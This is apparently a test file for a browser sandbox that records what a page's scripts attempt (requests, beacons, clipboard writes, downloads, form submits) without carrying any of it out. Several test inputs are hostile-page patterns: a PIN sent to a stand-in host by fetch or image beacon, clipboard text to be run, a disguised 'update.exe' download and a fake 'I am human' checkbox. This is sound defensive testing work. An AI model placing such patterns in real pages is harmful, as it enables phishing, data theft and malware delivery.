import { describe, expect, test } from 'bun:test'
import type { Persona } from '../../../src/trust/sandbox/draw.ts'
import { actsOf, open, runScript, told, toldBy } from './open-page.ts'

describe('what a page tries is recorded, and nothing of it is done [T9]', () => {
  test.each([
    ['location = "https://o.example/"', 'navigate https://o.example/'],
    ['location.assign("/a")', 'navigate https://shop.example/a'],
    ['location.replace("b")', 'navigate https://shop.example/path/b'],
    ['location.search = "?z"', 'navigate https://shop.example/path/page.html?z'],
    ['top.location.href = "//o.example"', 'navigate https://o.example/'],
    ['document.location = "/a"', 'navigate https://shop.example/a'],
    ['location.reload()', 'reload'],
    ['open("https://o.example/")', 'open https://o.example/'],
    ['fetch("/a")', 'fetch GET https://shop.example/a'],
    [
      'fetch("https://o.example/", { method: "post", body: new URLSearchParams({ pin: "1" }) })',
      'fetch POST https://o.example/ pin=1',
    ],
    [
      'const x = new XMLHttpRequest(); x.open("POST", "/a"); x.send("pin=1")',
      'fetch POST https://shop.example/a pin=1',
    ],
    ['navigator.sendBeacon("/a", "b")', 'beacon POST https://shop.example/a b'],
    ['new Image().src = "https://o.example/?pin=1"', 'beacon GET https://o.example/?pin=1'],
    ['new WebSocket("wss://o.example/").send("x")', 'socket wss://o.example/'],
    ['new EventSource("/e")', 'fetch GET https://shop.example/e'],
    ['new Worker("/w.js")', 'worker https://shop.example/w.js'],
    ['navigator.serviceWorker.register("/w.js")', 'worker https://shop.example/w.js'],
    ['Notification.requestPermission()', 'permission notifications'],
    ['navigator.geolocation.getCurrentPosition(() => 0)', 'permission geolocation'],
    ['document.documentElement.requestFullscreen()', 'fullscreen'],
    ['navigator.keyboard.lock()', 'keyboard_lock'],
    ['alert("a")', 'alert a'],
    ['prompt("PIN")', 'prompt PIN'],
    ['print()', 'print'],
    ['speechSynthesis.speak(new SpeechSynthesisUtterance("call us"))', 'speak call us'],
    ['history.pushState(null, "", "/x")', 'history /x'],
    [
      'const f = document.createElement("form"); f.action = "https://o.example/p"; document.body.appendChild(f); f.submit()',
      'submit https://o.example/p',
    ],
  ])('%s', (code, act) => {
    expect(actsOf(runScript(code))[0]).toBe(act)
  })
})

describe('a request of the page', () => {
  const scripts = [{ url: 'https://shop.example/data.json', text: '{"a":[1]}' }]

  test('is answered with what the capture has', () => {
    const code = `fetch('/data.json').then((r) => r.json()).then(({ a }) => tell('fetch ' + a));
      const x = new XMLHttpRequest(); x.open('GET', '/data.json'); x.addEventListener('load', function () { tell('xhr ' + this.responseText) }); x.send()`
    expect(told(code, { scripts })).toEqual(['fetch 1', 'xhr {"a":[1]}'])
  })

  test('fails in time where the capture has nothing', () => {
    const code = `fetch('/none').catch((e) => tell('fetch ' + e.name));
      const x = new XMLHttpRequest(); x.onerror = () => tell('xhr ' + x.status); x.open('GET', '/none'); x.send()`
    expect([...told(code)].sort()).toEqual(['fetch TypeError', 'xhr 0'])
  })
})

test.each([
  ['writeText', 'navigator.clipboard.writeText("run me")'],
  [
    'write',
    'navigator.clipboard.write([new ClipboardItem({ "text/plain": new Blob(["run me"], { type: "text/plain" }) })])',
  ],
  [
    'a promise in write',
    'navigator.clipboard.write([new ClipboardItem({ "text/plain": Promise.resolve("run me") })])',
  ],
  [
    'execCommand of a field',
    'const t = document.createElement("textarea"); t.value = "run me"; document.body.appendChild(t); t.select(); document.execCommand("copy")',
  ],
  [
    'execCommand of a selection',
    'const p = document.createElement("p"); p.textContent = "run me"; document.body.appendChild(p); const r = document.createRange(); r.selectNodeContents(p); getSelection().removeAllRanges(); getSelection().addRange(r); document.execCommand("copy")',
  ],
  [
    'a listener of copy',
    'document.addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", "run me"); e.preventDefault() }); document.execCommand("copy")',
  ],
])('a text is copied by %s', (_, code) => {
  expect(actsOf(runScript(code))).toContain('copy run me')
  expect(actsOf(open(`<body><button onclick='${code}'>Copy</button></body>`))).toContain('copy run me')
})

test('what a listener gives in place of marked text is recorded, whatever hears of it', () => {
  const gives = 'e.clipboardData.setData("text/plain", "run " + getSelection()); e.preventDefault()'
  for (const target of ['document', 'document.body', 'window']) {
    expect(
      actsOf(open(`<body>me<script>${target}.addEventListener("copy", (e) => { ${gives} })</script>`)),
    ).toContainEqual(expect.stringMatching(/^replace run me/))
  }
  expect(actsOf(open('<body>me<script>addEventListener("copy", () => 0)</script>'))).toEqual([])
})

describe('a download', () => {
  const bytes = 'MZ\\x90\\0 program'
  const download = (page: ReturnType<typeof runScript>) =>
    page.acts.filter(({ kind }) => kind === 'download').map(({ detail }) => JSON.parse(detail))

  test('that a script clicks has its name, its type and its first bytes', () => {
    const page = runScript(
      `const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['${bytes}'], { type: 'application/x-msdownload' })); a.download = 'update.exe'; a.click()`,
    )
    expect(download(page)).toMatchObject([
      { name: 'update.exe', type: 'application/x-msdownload', head: expect.stringMatching(/^TV/) },
    ])
  })

  test('may be a link to another site, or a place to go', () => {
    const page = runScript(
      `const a = document.createElement('a'); a.href = 'https://o.example/a.iso'; a.setAttribute('download', ''); document.body.appendChild(a); a.click();
      location.href = URL.createObjectURL(new Blob(['${bytes}'], { type: 'application/zip' }))`,
    )
    expect(download(page).map(({ name, type }) => [name, type])).toEqual([
      ['', ''],
      ['', 'application/zip'],
    ])
  })
})

describe('a press', () => {
  test.each([
    ['a label', '<label for="c">I am human</label><input type="checkbox" id="c">'],
    ['a label around it', '<label>I am human <input type="checkbox" id="c"></label>'],
    ['the box', '<input type="checkbox" id="c">'],
  ])('on %s ticks a box', (_, markup) => {
    const page = open(
      `<body>${markup}<script>c.addEventListener('change', () => alert(c.checked))</script></body>`,
    )
    expect(toldBy(page)).toContain('true')
  })

  test('on a button sends its form, unless a listener keeps it', () => {
    const form = '<form id="f" action="/login"><input name="a"><button>Next</button></form>'
    expect(actsOf(open(`<body>${form}<script>1</script></body>`))).toEqual([
      'submit https://shop.example/login',
    ])
    expect(
      actsOf(
        open(
          `<body>${form}<script>f.addEventListener('submit', (e) => { e.preventDefault(); fetch('https://o.example/') })</script></body>`,
        ),
      ),
    ).toEqual(['fetch GET https://o.example/'])
  })

  test('is trusted, has a place, and comes after what a hand does before it', () => {
    const code = `const seen = []; for (const t of ['pointerdown', 'mousedown', 'mouseup', 'click']) document.addEventListener(t, (e) => { if (e.isTrusted && e.clientX > 0 && e.target.id === 'b') seen.push(t) })
      document.body.innerHTML = '<button id="b">Go</button>'; document.addEventListener('click', () => tell(seen))`
    expect(told(code)).toContain('pointerdown,mousedown,mouseup,click')
  })

  test('does not follow links to other pages', () => {
    expect(actsOf(open('<body><a href="/other">Continue</a><script>1</script></body>'))).toEqual([])
  })

  test('is of the page itself in each round, then of all that something hears of, buttons first, once each', () => {
    const many = Array.from(
      { length: 40 },
      (_, at) => `<div id="d${at}" class="btn" role="r${at}">x</div>`,
    ).join('')
    const page = open(
      `<body>${many}<button id="real">Go</button><script>addEventListener('click', () => 0); document.addEventListener('click', (e) => alert(e.target.id))</script></body>`,
    )
    expect(toldBy(page).slice(0, 2)).toEqual(['', 'real'])
    const pressed = toldBy(page).filter((id) => id !== '')
    expect(pressed).toHaveLength(41)
    expect(new Set(pressed).size).toBe(41)
  })

  test.each(
    ['window', 'document', 'document.documentElement', 'document.body', 'go'].flatMap((target) => [
      `${target}.onclick = heard`,
      `${target}.addEventListener('click', heard)`,
    ]),
  )('is heard by everything on its way: %s', (listen) => {
    const page = open(
      `<body><button id=go>Go</button><script>const heard = ({ target }) => alert(target.id); ${listen}</script></body>`,
    )
    expect(toldBy(page).filter((id) => id === 'go')).toEqual(['go'])
  })

  test('is of sixteen of those that look and listen alike, whatever the numbers in their classes', () => {
    const many = Array.from({ length: 40 }, (_, at) => `<div id="d${at}" class="btn n${at}">x</div>`).join('')
    const page = open(
      `<body>${many}<b id=own class="btn n7">x</b><div id=last class="btn n7">x</div><script>last.addEventListener('click', () => 0); document.addEventListener('click', (e) => alert(e.target.id))</script></body>`,
    )
    const sixteen = Array.from({ length: 16 }, (_, at) => `d${at}`)
    expect(new Set(toldBy(page))).toEqual(new Set(['', ...sixteen, 'own', 'last']))
  })

  test('is of at most sixteen things that nothing hears of: the markup says what they do', () => {
    const forms = Array.from(
      { length: 40 },
      (_, at) => `<form action="/${at}"><button>Go</button></form>`,
    ).join('')
    const page = open(`<body>${forms}<script>0</script></body>`)
    expect(page.acts.map(({ kind }) => kind)).toEqual(Array(16).fill('submit'))
  })
})

describe('whom a page sees', () => {
  const WHO = `tell([navigator.maxTouchPoints > 0, /Mobile/.test(navigator.userAgent), innerWidth < 500, 'ontouchstart' in window, navigator.language,
    Intl.DateTimeFormat().resolvedOptions().timeZone, navigator.webdriver].join())`
  test.each<[string, Partial<Persona>, string]>([
    ['at a desk', {}, 'false,false,false,false,en-US,America/New_York,false'],
    [
      'with a phone, elsewhere',
      { device: 'phone', language: 'nl-NL', timeZone: 'Europe/Amsterdam' },
      'true,true,true,true,nl-NL,Europe/Amsterdam,false',
    ],
  ])('is somebody %s', (_, persona, answer) => {
    expect(told(WHO, { persona })).toEqual([answer])
  })

  test('is at a desk again after a phone', () => {
    told(WHO, { persona: { device: 'phone', language: 'nl-NL' } })
    expect(told(WHO)).toEqual(['false,false,false,false,en-US,America/New_York,false'])
  })
})
